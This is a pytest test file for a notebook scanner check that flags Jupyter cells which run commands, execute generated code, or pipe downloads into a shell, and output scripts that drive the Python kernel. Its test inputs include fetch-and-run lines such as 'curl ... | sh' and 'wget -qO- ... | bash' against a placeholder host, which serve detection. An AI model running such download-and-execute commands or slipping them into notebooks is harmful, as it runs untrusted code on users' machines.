from __future__ import annotations

import json

import pytest

from hilt.checks.inspect.notebook_code import CHECK
from hilt.core.finding import Severity
from reading import findings

HTML = {"output_type": "display_data", "metadata": {}}


def seen(source: object, *outputs: object) -> list[tuple[Severity, str]]:
    cell = {"cell_type": "code", "source": source, "outputs": list(outputs), "metadata": {}}
    notebook = {"cells": [{"cell_type": "markdown", "source": "os.system('x')"}, cell], "metadata": {}, "nbformat": 4}
    found = findings(CHECK, json.dumps(notebook).encode(), "demo.ipynb")
    return [(finding.severity, finding.message) for finding in found]


@pytest.mark.parametrize(
    "source",
    [
        ["!pip install transformers\n", "%matplotlib inline\n", "import torch\n", "torch.zeros(1)"],
        "%%bash\nnvidia-smi\npip install x",
        "files = !ls\nprint(files)\nhelp?",
        "if True:\n    !git lfs install\n    x = 1",
        "model.eval()\nmodel.compile()\nrequests.get(url)",
        "this is no Python",
        None,
        [1, None],
    ],
)
def test_a_demonstration_is_quiet(source: object) -> None:
    assert (
        seen(source, {**HTML, "data": {"text/html": ["<table></table>"], "text/plain": "x"}}, None, {"data": 1}) == []
    )


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("import os\nos.system('echo hilt')", "cell 2 runs commands: os.system"),
        ("!pip install x\nfrom subprocess import run\nrun(['x'])", "runs commands: subprocess.run"),
        (["exec(", "open('x').read())"], "made or loaded at run time: builtins.exec"),
        ("!curl -s https://example.org/x | sh", "runs what it downloads: curl -s https://example.org/x | sh"),
        ("%%bash\nwget -qO- https://example.org/x | bash", "runs what it downloads"),
    ],
)
def test_each_cell_that_does_more_is_named(source: object, words: str) -> None:
    ((severity, message),) = seen(source)
    assert (severity, words in message) == (Severity.MEDIUM, True), message


def test_scripts_among_the_answers_are_told_and_those_that_steer_python_are_worse() -> None:
    drawn = {**HTML, "data": {"text/html": "<div></div><script>draw()</script>"}}
    steers = {**HTML, "data": {"application/javascript": ["IPython.notebook.kernel", ".execute('import os')"]}}
    assert [severity for severity, _ in seen("1", drawn, steers)] == [Severity.LOW, Severity.MEDIUM]


def test_older_notebooks_are_read_too() -> None:
    cell = {"cell_type": "code", "input": ["import os\n", "os.popen('x')"], "outputs": []}
    notebook = {"worksheets": [{"cells": [cell]}], "nbformat": 3, "metadata": {}}
    (finding,) = findings(CHECK, json.dumps(notebook).encode(), "old.ipynb")
    assert "os.popen" in finding.message


@pytest.mark.parametrize("value", [[], {"cells": []}, {"nbformat": 4, "cells": {}}, {"nbformat": 4, "worksheets": [1]}])
def test_what_is_no_notebook_is_quiet(value: object) -> None:
    assert findings(CHECK, json.dumps({"a": value} if isinstance(value, list) else value).encode(), "x.json") == []
